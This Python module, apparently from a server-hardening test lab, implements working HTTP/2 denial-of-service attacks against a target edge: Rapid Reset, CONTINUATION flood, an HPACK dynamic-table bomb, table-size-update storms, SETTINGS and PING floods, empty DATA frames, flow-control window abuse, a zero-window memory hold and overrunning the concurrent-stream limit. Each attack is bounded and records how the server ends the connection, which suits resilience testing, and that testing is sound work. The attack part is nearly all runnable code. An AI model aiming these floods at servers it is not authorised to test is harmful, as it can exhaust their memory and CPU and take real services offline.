"""HTTP/2 attacks: frames built by asgilab.attacks.frames, sent over raw Wire connections,
each bounded by its table row (seconds, connections, frames)."""

from __future__ import annotations

import functools
import time
from collections.abc import Callable, Iterator

from asgilab.attacks import frames as fr
from asgilab.attacks.model import Context, Strike
from asgilab.attacks.wire import ProbeError, Wire

BATCH = 64  # frames per write: the socket, not Python, sets the pace
SEND_TIMEOUT_S = 0.3  # a write blocked this long: the peer stopped reading (back-pressure)
ENDING_WAIT_S = 0.5  # after the last frame: time for the peer's GOAWAY to arrive


def _open(ctx: Context, strike: Strike, values: dict[int, int] | None = None) -> Wire | None:
    """A handshaken connection, or None with strike.na / an ending saying why not."""
    try:
        w = Wire.open(ctx.edge, ctx.tr, ctx.timeout, ctx.ca)
    except ProbeError as exc:
        if exc.kind == "alpn":
            strike.na = f"the edge does not offer h2 ({exc})"
        else:
            strike.endings[f"no connection ({exc.kind})"] += 1
            strike.detail["error"] = str(exc)
        return None
    strike.connections += 1
    if not w.handshake(values, timeout=min(ctx.timeout, max(ctx.left(), 0.5))):
        if w.reader.garbage is not None:
            line = w.reader.garbage.split(b"\r\n", 1)[0].decode("latin-1")
            strike.na = f"the edge answered the HTTP/2 preface with HTTP/1.1 ({line})"
        elif strike.connections == 1:
            strike.na = f"no HTTP/2 SETTINGS from the edge ({w.ending()})"
        else:
            strike.endings[w.ending()] += 1
            strike.cut_off = True
        w.close()
        return None
    return w


def _finish(strike: Strike, w: Wire, wait: float = ENDING_WAIT_S) -> None:
    """Reads what the peer says last, and records how the connection ended."""
    if not w.closed:
        w.drain(wait)
    strike.sent_frames += w.sent_frames
    strike.sent_bytes += w.sent_bytes
    strike.endings[w.ending()] += 1
    g = w.goaway()
    if w.closed or g is not None:
        strike.cut_off = True
        if w.closed_at is not None:
            strike.detail.setdefault("cut_off_after_s", round(w.closed_at, 3))
    if g is not None:
        strike.detail["goaway"] = fr.error_name(g.error_code or 0)
    resets = w.resets()
    if resets:
        strike.detail["rst_stream_received"] = strike.detail.get("rst_stream_received", 0) + len(resets)
    w.close()


def _flood(ctx: Context, w: Wire, batches: Iterator[tuple[bytes, int, str]], read: bool) -> None:
    """Writes batches until a bound, the peer's end, or back-pressure; ``read``: keep
    reading what the peer sends (an attacker that never reads leaves it to buffer)."""
    limit, rate = ctx.attack.frames, ctx.attack.rate
    t0 = time.monotonic()
    for payload, count, note in batches:
        if ctx.left() <= 0 or w.sent_frames >= limit or w.closed:
            return
        # A fixed rate: this batch leaves when the frames before it are due.
        while (rate and not w.closed and ctx.left() > 0
               and (ahead := t0 + w.sent_frames / rate - time.monotonic()) > 0):
            wait = max(0.0, min(ahead, ctx.left()))  # the deadline may pass meanwhile
            if read:
                w.pump(wait)
            else:
                time.sleep(wait)
        if ctx.left() <= 0 or w.closed:
            return
        try:
            if not w.send(payload, note, frames=count, timeout=SEND_TIMEOUT_S):
                return
        except (TimeoutError, BlockingIOError):
            # A frame is now cut in two: nothing more can be sent on this connection.
            ctx.tr.note(f"the peer stopped reading after {w.sent_frames} frames (back-pressure)")
            w.drain(max(ctx.left(), 0.0))
            return
        if read:
            w.pump(0.0005)


def _batched(make: Callable[[int], bytes], per: int, note: Callable[[int], str],
             start: int = 0) -> Iterator[tuple[bytes, int, str]]:
    """Frames make(i) in batches of BATCH (``per`` frames each call of make)."""
    i = start
    while True:
        yield b"".join(make(i + k) for k in range(BATCH)), BATCH * per, note(i)
        i += BATCH


def _streams(first: int = 1) -> Callable[[int], int]:
    return lambda i: first + 2 * i


def _one_connection(body: Callable[[Context, Wire, Strike], None]) -> Callable[[Context], Strike]:
    """An attack on one handshaken connection: ``body`` sends; opening it (or saying why it
    could not) and recording how the peer ended it are the same for every such attack."""
    @functools.wraps(body)
    def attack(ctx: Context) -> Strike:
        s = Strike()
        w = _open(ctx, s)
        if w is None:
            return s
        body(ctx, w, s)
        _finish(s, w)
        return s
    return attack


def _get(w: Wire, path: str = "/query", method: str = "GET") -> bytes:
    return fr.plain_block(fr.request_headers(w.authority, path, method, w.scheme))


@_one_connection
def rapid_reset(ctx: Context, w: Wire, s: Strike) -> None:
    sid, block = _streams(), _get(w)

    def pair(i: int) -> bytes:
        return fr.headers(sid(i), block) + fr.rst_stream(sid(i), 8)
    _flood(ctx, w, _batched(pair, 2, lambda i: f"{BATCH} × (HEADERS + RST_STREAM CANCEL) from stream "
                                                f"{sid(i)}"), read=True)
    s.detail["streams_opened"] = w.sent_frames // 2
    s.detail["responses_started"] = sum(1 for f in w.received if f.type == fr.HEADERS)


@_one_connection
def continuation_flood(ctx: Context, w: Wire, s: Strike) -> None:
    w.send(fr.headers(1, _get(w), end_stream=True, end_headers=False), "HEADERS stream=1 without END_HEADERS")
    piece = b"".join(fr.literal(f"x-flood-{k}", "a" * 1000) for k in range(16))  # ~16 KiB
    _flood(ctx, w, _batched(lambda _i: fr.continuation(1, piece), 1,
                            lambda i: f"{BATCH} × CONTINUATION stream=1 ({len(piece)} B each), after {i}"),
           read=True)
    s.detail["header_bytes_sent"] = w.sent_bytes


@_one_connection
def hpack_bomb(ctx: Context, w: Wire, s: Strike) -> None:
    request = _get(w)
    # 4,000 B: with its 38 B of overhead it still fits the default 4,096 B table (RFC 7541 4.1),
    # where it becomes dynamic index 62.
    entry = fr.literal_indexed("x-bomb", b"a" * 4000)
    w.send(fr.headers(1, request + entry), "HEADERS stream=1 GET /query + x-bomb (4,000 B) into the table")
    refs = fr.indexed(62) * (16384 - len(request))
    sid = _streams(3)
    _flood(ctx, w, _batched(lambda i: fr.headers(sid(i), request + refs), 1,
                            lambda i: f"{BATCH} × HEADERS of {len(refs)} references to x-bomb "
                                      f"(~{len(refs) * 4006 // 2**20} MiB each) from stream {sid(i)}"),
           read=True)
    s.detail["inflated_mib_sent"] = round(max(w.sent_frames - 1, 0) * len(refs) * 4006 / 2**20)


@_one_connection
def table_size_storm(ctx: Context, w: Wire, s: Strike) -> None:
    request, sid = _get(w), _streams()
    storm = (fr.table_size_update(0) + fr.table_size_update(4096)) * 3000
    _flood(ctx, w, _batched(lambda i: fr.headers(sid(i), storm + request), 1,
                            lambda i: f"{BATCH} × HEADERS of 6000 table size updates from stream {sid(i)}"),
           read=True)


@_one_connection
def settings_flood(ctx: Context, w: Wire, s: Strike) -> None:
    one = fr.settings({fr.INITIAL_WINDOW_SIZE: 65535})
    _flood(ctx, w, _batched(lambda _i: one, 1, lambda i: f"{BATCH} × SETTINGS, after {i}"), read=False)


@_one_connection
def ping_flood(ctx: Context, w: Wire, s: Strike) -> None:
    _flood(ctx, w, _batched(lambda i: fr.ping(i.to_bytes(8, "big")), 1,
                            lambda i: f"{BATCH} × PING, after {i}"), read=False)


@_one_connection
def empty_data(ctx: Context, w: Wire, s: Strike) -> None:
    w.send(fr.headers(1, _get(w, "/echo", "POST"), end_stream=False),
           "HEADERS stream=1 POST /echo (body to follow)")
    _flood(ctx, w, _batched(lambda _i: fr.data(1, b""), 1,
                            lambda i: f"{BATCH} × empty DATA stream=1, after {i}"), read=True)


@_one_connection
def window_update_zero(ctx: Context, w: Wire, s: Strike) -> None:
    sid = _streams()

    def pair(i: int) -> bytes:
        return fr.headers(sid(i), _get(w, f"/message/{i}?delay=1")) + fr.window_update(sid(i), 0)
    _flood(ctx, w, _batched(pair, 2, lambda i: f"{BATCH} × (HEADERS + WINDOW_UPDATE 0) from stream {sid(i)}"),
           read=True)


def window_overflow(ctx: Context) -> Strike:
    s = Strike()
    owed = 0
    while ctx.left() > 0 and s.connections < ctx.attack.connections:
        w = _open(ctx, s)
        if w is None:
            break
        w.send(fr.window_update(0, 2**31 - 1) * 2, "WINDOW_UPDATE stream=0 2^31-1, twice")
        got = w.until(lambda f: f.type == fr.GOAWAY, min(ctx.timeout, max(ctx.left(), 0.2)))
        if got is not None and got.error_code == 3:
            owed += 1
        _finish(s, w, wait=0.05)
    s.detail["flow_control_errors"] = owed
    return s


def zero_window(ctx: Context) -> Strike:
    s = Strike()
    open_wires: list[Wire] = []
    streams = 50
    while ctx.left() > 0 and s.connections < ctx.attack.connections:
        w = _open(ctx, s, {fr.INITIAL_WINDOW_SIZE: 0})
        if w is None:
            break
        block = _get(w, "/payload/1048576")
        # The connection window is the peer's too: it stays at its 65,535 default, never raised.
        w.send(b"".join(fr.headers(1 + 2 * k, block) for k in range(streams)),
               f"{streams} × HEADERS GET /payload/1048576 with INITIAL_WINDOW_SIZE 0", frames=streams)
        open_wires.append(w)
    s.detail["requested_mib"] = len(open_wires) * streams
    # Hold them, never reading: what the server keeps buffered shows in its memory.
    while ctx.left() > 0:
        time.sleep(min(0.1, max(ctx.left(), 0)))
    for w in open_wires:
        _finish(s, w, wait=0.02)
    return s


def stream_limit(ctx: Context) -> Strike:
    s = Strike()
    w = _open(ctx, s)
    if w is None:
        return s
    advertised = w.peer_settings.get(fr.MAX_CONCURRENT_STREAMS)
    target = min((advertised or 1000) + 100, ctx.attack.frames)
    sid = _streams()
    sent = 0
    while sent < target and ctx.left() > 0 and not w.closed:
        n = min(BATCH, target - sent)
        chunk = b"".join(fr.headers(sid(sent + k), _get(w, f"/message/{sent + k}?delay=2")) for k in range(n))
        try:
            if not w.send(chunk, f"{n} × HEADERS GET /message/i?delay=2 from stream {sid(sent)}", frames=n,
                          timeout=SEND_TIMEOUT_S):
                break
        except (TimeoutError, BlockingIOError):
            ctx.tr.note(f"the peer stopped reading after {sent} streams (back-pressure)")
            break
        sent += n
        w.pump(0.0005)
    w.drain(min(max(ctx.left(), 0.2), 1.0))
    refused = sum(1 for f in w.resets() if f.error_code in (1, 7))
    s.detail.update({"advertised_max_concurrent_streams": advertised, "streams_opened": sent,
                     "refused_streams": refused})
    if advertised is not None and sent > advertised and refused >= sent - advertised:
        s.cut_off = True
    _finish(s, w, wait=0.05)
    return s
